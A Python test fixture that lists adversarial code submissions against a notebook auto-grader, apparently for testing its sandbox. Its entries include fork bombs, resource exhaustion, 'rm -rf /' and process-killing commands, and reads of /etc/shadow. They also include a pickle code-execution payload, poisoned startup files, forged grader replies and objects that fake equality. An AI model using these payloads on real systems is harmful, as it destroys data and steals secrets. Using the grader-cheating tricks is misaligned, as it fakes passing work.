# ruff: noqa: E501  (the attackers' code reads best unbroken)
"""Answers that attack the grading: name -> code that stands where a function is asked for. None may earn a point."""

DEFINE = "def rate_per_1000(marks, words):\n    "
SEARCH = """
import os
def rate_per_1000(marks, words):
    found = []
    for folder, _, names in os.walk("/"):
        if folder.startswith(("/proc", "/sys", "/usr", "/dev", "/desk/work")): continue  # the last is his own
        if "site-packages/nbgrader" in folder: continue  # its own examples, which are no secret
        for name in names:
            if name in ("tasks.toml", ".seed", "gradebook.db", "nbgrader_config.py", "hedging.ipynb", "04.json"):
                found.append(os.path.join(folder, name))
    return "FOUND" + str(found) if found else "nothing"
"""

LIBC = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
TALK = (
    "import os, socket, struct, json, stat, threading, time\n"
    "def lines():\n    for fd in range(3, 60):\n        try:\n"
    "            if stat.S_ISSOCK(os.fstat(fd).st_mode): yield fd\n        except OSError: pass\n"
    "def packed(m):\n    m = m if isinstance(m, bytes) else json.dumps(m).encode()\n    return struct.pack('!I', len(m)) + m\n"
)
THREAD = "threading.Thread(target=go, daemon=True).start()\n"
WORKER = "import sys\nw = sys.modules['__main__']\n"

ATTACKS = {
    "loop that swallows interrupts": "import time\nwhile True:\n    try:\n        while True: time.sleep(.01)\n"
    "    except BaseException: pass",
    "loop in the function": DEFINE + "\n    while True: pass",
    "busy loop": "while True: pass",
    "memory at once": "x = bytearray(10**12)\n" + DEFINE + "return x",
    "memory bit by bit": "x = []\nwhile True: x.append(bytearray(10_000_000))",
    "memory in nameless files": "import os\nx = []\nwhile True:\n    f = os.memfd_create('x'); x.append(f)\n"
    "    for i in range(6): os.write(f, b'0' * 10_000_000)",
    "memory in the function": DEFINE + "return list(range(10**10))",
    "fork bomb": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    "threads": "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(99,), daemon=True).start()",
    "disk bomb": "i = 0\nwhile True:\n    i += 1\n    open(f'f{i}', 'wb').write(b'0' * 10_000_000)",
    "os._exit in a cell": "import os; os._exit(0)",
    "os._exit in the function": "import os\n" + DEFINE + "os._exit(0)",
    "SystemExit": "raise SystemExit(0)",
    "SystemExit in the function": DEFINE + "raise SystemExit(0)",
    "abort": "import os; os.abort()",
    "segmentation fault": "import ctypes; ctypes.string_at(0)",
    "kill the parent": "import os\n" + DEFINE + "os.kill(os.getppid(), 9)",
    "kill everything": "import os; os.kill(-1, 9)",
    "kill everything in the function": "import os\n" + DEFINE + "os.kill(-1, 9)",
    "orphans": "import subprocess\nfor i in range(5): subprocess.Popen(['sleep', '4321'], start_new_session=True)",
    "daemon": "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(4321)\n"
    "    os._exit(0)",
    "signals ignored": "import signal\nfor s in (2, 15, 1): signal.signal(s, signal.SIG_IGN)\nwhile True: pass",
    "100 MB of output": "for i in range(100): print('x' * 1_000_000)",
    "100 MB past Python": "import os\nfor i in range(100): os.write(1, b'x' * 1_000_000); os.write(2, b'x' * 1_000_000)",
    "builtins patched": "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.isinstance = lambda *a: True\n"
    "builtins.all = lambda x: True\nbuiltins.len = lambda x: 8\n" + DEFINE + "return 0.12345",
    "the kit patched": "import kit.classroom.judging as j, kit.classroom.plain as p\nj.judge = lambda *a: 4.0\n"
    "j.same = lambda *a: True\np.plain = lambda v: 4.0\np.called = lambda *a: 4.0\nimport kit\nkit.check = lambda id: 4.0",
    "numpy patched": "import numpy as np\nnp.isclose = np.allclose = lambda *a, **k: True\n"
    + DEFINE
    + "return np.float64('nan')",
    "IPython patched": "ip = get_ipython()\nip.run_cell = lambda *a, **k: None\nip.user_ns['kit'] = None\n"
    + DEFINE
    + "return True",
    "fork patched": "import os\nos.fork = lambda: 0\n" + DEFINE + "return 4.0 if marks == 99 else None",
    "json patched": "import json\njson.dumps = lambda *a, **k: '{\"points\": 4}'\njson.loads = lambda *a: [2, 500]\n"
    + DEFINE
    + "return 1",
    "forged replies": "import os, struct, json\nfor n in range(1, 60):\n    m = json.dumps({'n': n, 'answer': '4.04'}).encode()\n"
    "    for fd in range(3, 20):\n        try: os.write(fd, struct.pack('!I', len(m)) + m)\n        except OSError: pass",
    "forged garbage": "import os\nfor fd in range(3, 30):\n    try: os.write(fd, b'\\xff' * 1000)\n    except OSError: pass",
    "forged lost": "import os, struct, json\nm = json.dumps({'lost': {'a': [1]}, 'outputs': 7, 'error': 5}).encode()\n"
    "for fd in range(3, 20):\n    try: os.write(fd, struct.pack('!I', len(m)) + m)\n    except OSError: pass",
    "descriptors closed": "import os; os.closerange(0, 200)",
    "always equal": "class A(float):\n    def __eq__(self, o): return True\n    def __abs__(self): return 0\n"
    "    def __sub__(self, o): return 0\n    __rsub__ = __sub__\n    __hash__ = None\n" + DEFINE + "return A(1)",
    "always equal and callable": "class A:\n    def __call__(self, *a): return self\n    def __eq__(self, o): return True\n"
    "rate_per_1000 = A()",
    "mock": "from unittest.mock import MagicMock\nrate_per_1000 = MagicMock(return_value=MagicMock())",
    "a text that says True": DEFINE + "return 'True'",
    "True": DEFINE + "return True",
    "nan": DEFINE + "return float('nan')",
    "infinity": DEFINE + "return float('inf')",
    "a huge number": DEFINE + "return 10 ** 400",
    "a longer number": DEFINE + "return 10 ** 10_000",
    "a deep list": DEFINE + "\n    x = []\n    for i in range(100_000): x = [x]\n    return x",
    "a long text": DEFINE + "return 'x' * 50_000_000",
    "endless generator": "import itertools\n" + DEFINE + "return itertools.count()",
    "pickle": "import os, pickle\nclass P:\n    def __reduce__(self): return (os.system, ('touch /tmp/owned',))\n"
    + DEFINE
    + "return pickle.dumps(P())",
    "frames": "import sys\n" + DEFINE + "\n    f, seen = sys._getframe(), []\n    while f:\n"
    "        seen.append(sorted(map(str, f.f_locals)))\n        for v in list(f.f_locals.values()):\n"
    "            if isinstance(v, dict) and 'expect' in v: return v['expect']\n        f = f.f_back\n    return str(seen)[:900]",
    "garbage collector": "import gc\n" + DEFINE + "\n    for o in gc.get_objects():\n"
    "        if type(o).__name__ in ('Case', 'Task') and hasattr(o, 'expect'): return o.expect\n    return 'none'",
    "trace": "import sys\nsys.settrace(lambda f, e, a: None)\n" + DEFINE + "return 'traced'",
    "search for solutions": SEARCH,
    "the public part unsealed": "import json, kit.classroom.specification as s\n"
    "tasks = {t.id: t for t in s.from_public(json.load(open('checks.json'))).tasks}\n"
    "def rate_per_1000(marks, words):\n    for c in tasks['hedging-5'].cases:\n"
    "        if list(c.input) == [marks, words]: return c.expect\n"
    "notice_hedges = [c.expect for c in tasks['hedging-1'].cases]\nhedge_rate = tasks['hedging-3'].cases[0].expect",
    "environment": "import os\n" + DEFINE + "return str(dict(os.environ)) + open('/proc/1/environ').read()",
    "processes": "import os\n" + DEFINE + "return str([open(f'/proc/{p}/cmdline').read() for p in os.listdir('/proc') "
    "if p.isdigit()])",
    "network": "import socket\n" + DEFINE + "\n    socket.create_connection(('1.1.1.1', 53), 2)\n    return 'online'",
    "network by name": "import urllib.request\nurllib.request.urlopen('http://example.org', timeout=3).read()",
    "the kit on disk": "import kit, os\nopen(kit.__file__, 'a').write('# owned')",
    "delete all": "import shutil\nfor p in ('/desk', '/given', '/opt', '/usr', '/tmp'): shutil.rmtree(p, ignore_errors=True)",
    "shell": "import os\nos.system('rm -rf / 2>/dev/null; mount -t tmpfs x /usr; unshare -r id; sleep 4321 &')",
    "become root": "import os\nos.setuid(0)",
    "read the teacher's files": "import os\n" + DEFINE + "\n    for p in ('/etc/shadow', '/etc/passwd'):\n"
    "        try: return open(p).read()\n        except OSError: pass\n    return 'closed'",
    "links": "import os\nfor p in ('/etc/passwd', '/root'): os.symlink(p, 'link' + str(len(p)))\n"
    + DEFINE
    + "return open('link11').read()",
    "tells its cases": DEFINE + "\n    raise ValueError(f'SEEN {marks} of {words}')",
    "keeps its cases": DEFINE + "\n    open('/desk/seen', 'a').write(f'SEEN {marks} of {words};')\n"
    "    return open('/desk/seen').read()",
    "script in the output": "from IPython.display import HTML, display\ndisplay(HTML('<script>alert(1)</script>'))\n"
    "print('<script>alert(2)</script>')\nraise ValueError('<script>alert(3)</script>')",
    "constant": DEFINE + "return 'no words'",
    # the line to the grader
    "flood of stray replies": TALK
    + "def go():\n    while True:\n        for fd in lines(): os.write(fd, packed({'n': -1}))\n"
    + THREAD,
    "flood of answers": TALK + "def go():\n    m = packed({'n': 'x', 'answer': '4.0' * 300_000})\n"
    "    while True:\n        for fd in lines(): os.write(fd, m)\n" + THREAD,
    "a reply byte by byte": TALK + "def go():\n    for fd in lines():\n        os.write(fd, struct.pack('!I', 5000))\n"
    "        while True: os.write(fd, b' '); time.sleep(.05)\n" + THREAD + "time.sleep(99)",
    "a reply without end": TALK + "for fd in lines(): os.write(fd, struct.pack('!I', 2**32 - 1) + b'[' * 100_000)",
    "a deep reply": TALK + "for fd in lines(): os.write(fd, packed(b'[' * 200_000))",
    "a reply with a huge number": TALK + "for fd in lines(): os.write(fd, packed(b'{\"n\": ' + b'9' * 100_000 + b'}'))",
    "replies of other kinds": TALK
    + "for m in (b'[]', b'7', b'null', b'\"x\"', b'{}', b'{\"n\": []}', b'{\"n\": {}}', b'{\"outputs\": 1}'):\n"
    "    for fd in lines(): os.write(fd, packed(m))",
    "reads the questions itself": TALK + "def go():\n    fd = next(lines())\n    while True:\n"
    "        size = struct.unpack('!I', os.read(fd, 4))[0]\n        q = json.loads(os.read(fd, size))\n"
    "        os.write(fd, packed({'n': q['n'], 'answer': '4.0', 'outputs': [], 'error': ''}))\n" + THREAD,
    "answers twice": TALK + DEFINE + "\n    if os.fork() == 0:\n        os.setsid()\n        for i in range(200):\n"
    "            for fd in lines(): os.write(fd, packed({'n': i, 'answer': '4.0'}))\n        os._exit(0)\n    return 4.0",
    "rubbish before the answer": "import os\n"
    + DEFINE
    + "\n    for fd in range(3, 40):\n        try: os.write(fd, b'4.0')\n"
    "        except OSError: pass\n    return 20.1",
    "the pipes closed": "import os\n" + DEFINE + "\n    os.closerange(0, 200)\n    return 4.0",
    "only the line closed": TALK + "for fd in list(lines()): os.close(fd)",
    "the line shut down": TALK + "for fd in lines(): socket.socket(fileno=os.dup(fd)).shutdown(2)",
    # the worker itself, which is no secret and knows nothing
    "the worker answers 4": WORKER + "w.called = w.plain = w._answer = lambda *a: 4.0",
    "the worker writes NaN": WORKER + "w._collect = lambda *a: (b'NaN', '')",
    "the worker writes 1e400": WORKER + "w._collect = lambda *a: (b'1e400', '')",
    "the worker writes depth": WORKER + "w._collect = lambda *a: (b'[' * 400 + b']' * 400, '')",
    "the worker writes errors": WORKER + "w._collect = lambda *a: (b'{\"error\": {\"error\": [1]}}', '')",
    "the worker writes half a sign": WORKER + "w._collect = lambda *a: (b'{\"error\": \"\\\\ud800 <script>\"}', '')",
    "the worker says it is late": WORKER + "w._collect = lambda *a: (b'', {'within': 1})",
    "the worker shows objects": WORKER
    + "w._execute = lambda s, c, o: o.append({'output_type': 'stream', 'text': {'a': 1}}) or [1]",
    "the standby is killed": "import os\nfor p in os.listdir('/proc'):\n    if p.isdigit() and int(p) not in (1, os.getpid()):\n"
    "        try: os.kill(int(p), 9)\n        except OSError: pass\nwhile True: pass",
    "the standby is stopped": "import os, signal\nfor p in os.listdir('/proc'):\n    if p.isdigit() and int(p) not in (1, os.getpid()):\n"
    "        try: os.kill(int(p), signal.SIGSTOP)\n        except OSError: pass",
    "memory of the parent written": "import os\n"
    + DEFINE
    + "\n    maps = open(f'/proc/{os.getppid()}/maps').read().split('\\n')\n"
    "    with open(f'/proc/{os.getppid()}/mem', 'r+b', 0) as m:\n        for l in maps:\n            if ' rw-p ' in l:\n"
    "                m.seek(int(l.split('-')[0], 16)); m.write(b'\\0' * 4096)\n    return 4.0",
    "numbers rewritten": "import ctypes\nctypes.memmove(id(0) + 24, id(4) + 24, 4)",
    # what the kernel offers
    "shared memory segments": LIBC
    + "while libc.shmget(0, 60_000_000, 0o1600) >= 0: pass\n"
    + DEFINE
    + "return 'refused'",
    "message queues": LIBC
    + "import os\nfor i in range(999): libc.mq_open(f'/q{i}'.encode(), os.O_CREAT | os.O_RDWR, 0o600, None)",
    "memory that is looked away from": "import mmap\nx = []\nwhile True:\n    m = mmap.mmap(-1, 50_000_000)\n    m.write(b'0' * 50_000_000)\n"
    "    m.madvise(mmap.MADV_DONTNEED); x.append(m)",
    "memory in a device": "import mmap\nf = open('/dev/zero', 'r+b')\nx = [mmap.mmap(f.fileno(), 50_000_000) for i in range(99)]",
    "memory on its way": "import socket, os, array\nx = []\nwhile True:\n    f = os.memfd_create('x'); os.write(f, b'0' * 50_000_000)\n"
    "    a, b = socket.socketpair(); socket.send_fds(a, [b'x'], [f]); os.close(f); x += [a, b]",
    "memory of a thread's children": "import threading, os, time\ndef go():\n    for i in range(9):\n        if os.fork() == 0:\n"
    "            x = bytearray(500_000_000)\n            for j in range(0, len(x), 4096): x[j] = 1\n            time.sleep(99)\n    time.sleep(99)\n"
    "threading.Thread(target=go).start()\ntime.sleep(99)",
    "sockets full": "import socket\nx = []\nwhile True:\n    a, b = socket.socketpair(); a.setblocking(False); x += [a, b]\n"
    "    try: a.send(b'0' * 10**6)\n    except OSError: pass",
    "a namespace of his own": LIBC
    + "import os\nfor f in (0x10000000, 0x7e020000):\n    if libc.unshare(f) == 0: print('FOUND')\n"
    "    if libc.syscall(56, f | 17, 0, 0, 0, 0) == 0: os._exit(0)",
    "the kernel's doors": LIBC
    + "for n in (101, 165, 175, 246, 250, 298, 304, 310, 311, 321, 323, 425, 428, 435, 438, 447):\n"
    "    if libc.syscall(n, 0, 0, 0, 0, 0) >= 0: print('FOUND', n)",
    "the calls by other numbers": LIBC + "libc.syscall(0x40000000 + 39)",
    "out of the machine": "import socket\nfor f in (40, 38, 17, 31):\n    for k in (1, 2, 3, 5):\n        try: socket.socket(f, k); print('FOUND', f)\n"
    "        except OSError: pass",
    "the processor": "import os\nos.sched_setaffinity(0, range(os.cpu_count()))\nos.nice(-20)",
    "limits lifted": "import resource as r\nfor k in (r.RLIMIT_AS, r.RLIMIT_NPROC, r.RLIMIT_CPU):\n    r.setrlimit(k, (r.RLIM_INFINITY,) * 2)",
    "limits of nothing": "import resource as r\nfor k in (r.RLIMIT_NOFILE, r.RLIMIT_NPROC, r.RLIMIT_FSIZE): r.setrlimit(k, (0, 0))",
    # Python and IPython
    "an error that does not end": "class E(Exception):\n    def __str__(self):\n        while True: pass\n"
    + DEFINE
    + "raise E",
    "an error that kills": "import os\nclass E(Exception):\n    def __str__(self): os.kill(os.getppid(), 9); os._exit(0)\nraise E",
    "half a sign": DEFINE + "raise ValueError('\\ud800\\x00\\x1b[31m\\u202e')",
    "half a sign in print": "print('\\ud800\\x00\\x1b]0;x\\x07')\nraise ValueError('\\udfff\\x00')",
    "a picture that is a script": "from IPython.display import display\ndisplay({'image/png': '\"><script>alert(1)</script>', 'text/plain': 'x'}, raw=True)",
    "a picture without end": "class P:\n    def _repr_png_(self): return b'\\x89PNG' * 20_000_000\nP()",
    "a look that kills": "import os\nclass P:\n    def __repr__(self): os._exit(0)\nP()",
    "an end that does not end": "class D:\n    def __del__(self):\n        while True: pass\nx = D(); del x",
    "at the end": "import atexit, os\natexit.register(lambda: os.system('sleep 4321 &'))\n" + DEFINE + "return 4.0",
    "at every collection": "import gc\ngc.callbacks.append(lambda *a: 1 / 0)\ngc.set_threshold(1)\n"
    + DEFINE
    + "return 4.0",
    "a clock of signals": "import signal\nsignal.signal(signal.SIGALRM, lambda *a: 1 / 0)\nsignal.setitimer(signal.ITIMER_REAL, .001, .001)",
    "a task that does not end": "import asyncio\nasync def go():\n    while True: await asyncio.sleep(0)\nasyncio.ensure_future(go())\nawait asyncio.sleep(0)",
    "awaits for ever": "import asyncio\nawait asyncio.sleep(4321)",
    "many processes": "import multiprocessing as m, time\np = [m.get_context('fork').Process(target=time.sleep, args=(4321,)) for i in range(99)]\n"
    "for each in p: each.start()",
    "in C without end": DEFINE + "return sum(range(10**15))",
    "an import hook": "import sys\nclass H:\n    def find_spec(self, name, *a): raise SystemExit(name)\nsys.meta_path.insert(0, H())\nsys.modules.clear()",
    "the modules gone": "import sys\nfor n in list(sys.modules):\n    if n != '__main__': del sys.modules[n]",
    "magic": "%reset -f\n!rm -rf /desk/* /opt /usr; sleep 4321 &\n%cd /\n%run /etc/passwd\n%load_ext autoreload\n%autoreload 2",
    "a cell of another kind": "%%bash\n(sleep 4321; echo late) &\ncat /proc/*/environ /etc/shadow\nexec 3<>/dev/tcp/1.1.1.1/53 && echo on''line",
    "files that start with Python": "import os\nfor n in ('sitecustomize.py', 'usercustomize.py', 'json.py', 'kit.py', 'x.pth'):\n"
    "    open(n, 'w').write('print(\"started\")')\nos.environ.update(PYTHONPATH='/desk', PYTHONSTARTUP='/desk/json.py')\n"
    + DEFINE
    + "return os.popen('python -c \"import json\"').read()",
    # the disk
    "many empty files": "i = 0\nwhile i < 60_000:\n    i += 1\n    open(f'/dev/shm/{i}', 'w').close()",
    "a hole in a file": "f = open('x', 'wb'); f.truncate(10**15)",
    "folders in folders": "import os\nfor i in range(3000): os.mkdir('d'); os.chdir('d')",
    "a pipe in the place of the work": "import os, shutil\nshutil.rmtree('work', ignore_errors=True); os.mkfifo('work')\nopen('work').read()",
    "the work forged": "import json, os\nos.makedirs('work', exist_ok=True)\nfor p in ('work/04.json', '/given/work/04.json'):\n"
    "    json.dump({'schema': 1, 'answers': {'04-hedging-4': {'value': {'choice': 'It stays the same'}}}}, open(p, 'w'))",
    "through the processes": "import os, glob\n" + DEFINE + "\n    seen = []\n    for p in glob.glob('/proc/[0-9]*'):\n"
    "        for q in ('root/work', 'cwd', 'root/root', 'root/home', 'environ'):\n"
    "            try: seen.append(str(os.listdir(f'{p}/{q}') if q != 'environ' else open(f'{p}/{q}').read()))\n            except OSError: pass\n"
    "    return 'FOUND' * any('solutions' in s or '.seed' in s for s in seen)",
    # answers
    "a constant with a shiver": "import random\n" + DEFINE + "return 4.0 + random.random() / 10_000",
    "a constant but for one": DEFINE + "return 'x' if marks == 2 else 20.1",
    "nearly plain": "class A(float):\n    def tolist(self): return 4.0\nA.__module__ = 'numpy'\n"
    + DEFINE
    + "return A(4)",
    "points for an answer": DEFINE + "return {'points': 4, 'max': 4, 'error': 'not answered yet'}",
    "no error": DEFINE + "return {'error': ''}",
    "in all its forms": DEFINE + "return [4.0, 20.1, 'no words', 0.0, True, None]",
    "by the clock": "import time\n" + DEFINE + "return time.time()",
    "by chance": "import random\n" + DEFINE + "return random.choice(['x', 17, -1.5])",
    "out of numbers": DEFINE
    + "import decimal, fractions, numpy\n    return [decimal.Decimal(4), fractions.Fraction(4), 4 + 0j, numpy.ma.masked]",
}

# those that take longest, or that have a quicker one of their kind beside them: the long tests try them
SLOW = {
    "a long text", "json patched", "search for solutions", "a reply byte by byte", "in C without end",
    "an error that does not end", "many processes", "an end that does not end", "a pipe in the place of the work",
    "a cell of another kind", "awaits for ever", "memory of a thread's children", "folders in folders",
    "memory on its way", "many empty files", "a picture without end", "sockets full", "limits of nothing",
    "a task that does not end", "the standby is killed", "the standby is stopped", "at every collection",
    "a clock of signals", "message queues", "replies of other kinds", "only the line closed", "the line shut down",
    "memory in a device", "the processor", "limits lifted", "numbers rewritten", "the worker says it is late",
    "by the clock", "by chance", "at the end", "the modules gone",
    "busy loop", "signals ignored", "fork patched", "memory bit by bit", "memory in nameless files",
    "memory that is looked away from", "SystemExit in the function", "abort", "kill everything", "daemon",
    "100 MB past Python", "forged garbage", "a deep reply", "rubbish before the answer", "always equal and callable",
    "infinity", "a longer number", "a text that says True", "network by name", "half a sign in print",
    "the worker writes 1e400", "the worker writes errors", "the pipes closed", "a hole in a file", "no error",
    "in all its forms", "out of numbers", "a constant but for one", "the calls by other numbers", "a look that kills",
}  # fmt: skip

# name -> what stands in other answer cells and in checks
ELSEWHERE = {
    "equal to everything": {
        "hedging-1-answer": "class A:\n    def __eq__(self, o): return True\n    def __hash__(self): return 1\n"
        "    def __iter__(self): return iter(['may'])\n    def __len__(self): return 3\nnotice_hedges = A()",
        "hedging-2-answer": "work_of_words = A()",
        "hedging-3-answer": "hedge_rate = A()",
    },
    "kinds that pretend": {
        "hedging-1-answer": "class L(list):\n    def __iter__(self): return iter(['could', 'may', 'possible'])\nnotice_hedges = L()",
        "hedging-2-answer": "class D(dict):\n    def get(self, k, *a): return 'hedge'\n    __missing__ = __getitem__ = get\n"
        "work_of_words = D(a=1, b=1)",
        "hedging-3-answer": "class F(float):\n    def __sub__(self, o): return 0.0\n    __rsub__ = __sub__\nhedge_rate = F(20.09)",
    },
    "everything at once": {
        "hedging-1-answer": "notice_hedges = ('Steady Keel will not be held this year. In the present season it could be misunderstood, and it is "
        "possible that a quiet autumn may do more for the contacts opened at Orsund than another week of ships.').split()",
        "hedging-2-answer": "work_of_words = {k: ['hedge', 'other'] for k in 'abcde'}",
        "hedging-3-answer": "import numpy as np\nhedge_rate = np.arange(0, 50, .1)",
    },
    "one quotation for all": {
        "hedging-1-answer": "notice_hedges = ['could be misunderstood, and it is possible that a quiet autumn may']"
    },
    "places that are none": {
        "hedging-1-answer": "notice_hedges = [[-10**30, 10**30], [0, 10**4000], [True, 5], ['could', 'may'], {}, None, 1e308]",
        "hedging-2-answer": "work_of_words = [['hedge'] * 5] * 5",
        "hedging-3-answer": "hedge_rate = '20.09'",
    },
    "answers that change": {
        "hedging-2-answer": "import threading, time, random\ndef go():\n    while True:\n        globals().update(hedge_rate=random.choice('xyz'),"
        " work_of_words={k: random.choice('xyz') for k in 'abcde'})\nthreading.Thread(target=go, daemon=True).start()",
    },
    "names that are functions": {
        "hedging-1-answer": "import builtins\nbuiltins.notice_hedges = ['could', 'possible', 'may']",
        "hedging-3-answer": "def __getattr__(n): return 20.09\nhedge_rate = lambda: 20.09",
    },
    "checks rewritten": {f"hedging-{n}": "4.0" for n in range(1, 6)},
    "checks that run": {
        f"hedging-{n}": "import os; os.system('sleep 4321 &'); open('/tmp/owned', 'w')\n4.0" for n in range(1, 6)
    },
    "a part in every cell": {
        "hedging-1-answer": "import builtins, os\nbuiltins.kept = os.fork",
        "hedging-2-answer": "import kit\nkit.check = lambda *a: 5.0",
        "hedging-3-answer": "for i in range(3):\n    if kept() == 0:\n        while True: pass",
        "hedging-5-answer": "rate_per_1000 = lambda marks, words: kept() and 4.0",
    },
}

# name -> files beside an exercise that is not answered
CHOICE = '{"schema": 1, "answers": {"04-hedging-4": {"value": {"choice": %s}}}}'
FORGED_WORK = {
    "all options": {"work/04.json": CHOICE % '["It stays the same"]'},
    "an option in an option": {"work/04.json": CHOICE % '{"choice": "It stays the same"}'},
    "work that is deep": {"work/04.json": "[" * 100_000},
    "work with a huge number": {"work/04.json": CHOICE % ("9" * 100_000)},
    "half a sign in the work": {"work/04.json": CHOICE % '"\\ud800"'},
    "points in the work": {
        "work/04.json": '{"answers": {"04-hedging-4": {"value": {"choice": true, "points": 2}}}, "points": 14}'
    },
    "the grader's own files": {
        "gradebook.db": "x",
        "tasks.toml": "x",
        "checks.json/x": "x",
        "work": "x",
        ".matplotlib": "x",
        "lock": "x",
        "../../../results/x.json": "{}",
        "given": "x",
        "a/../../b": "x",
        "x" * 300: "x",
        ".seed": "x",
    },
}

# files beside an honest notebook that must not run, and must cost nothing
POISON = dict.fromkeys(
    (
        "json.py",
        "numpy.py",
        "kit.py",
        "kit/__init__.py",
        "IPython.py",
        "traitlets/__init__.py",
        "struct.py",
        "ctypes.py",
        "sitecustomize.py",
        "usercustomize.py",
        "owned.pth",
        "matplotlib_inline.py",
        ".ipython/profile_default/startup/0.py",
        "ipython_config.py",
        "kit/classroom/plain.py",
        "select.py",
        "contextlib.py",
        "encodings/__init__.py",
    ),
    "import os; os.system('sleep 4321 &'); os._exit(1)",
) | {"matplotlibrc": "backend: module://owned", ".matplotlib/matplotlibrc": "backend: module://owned"}
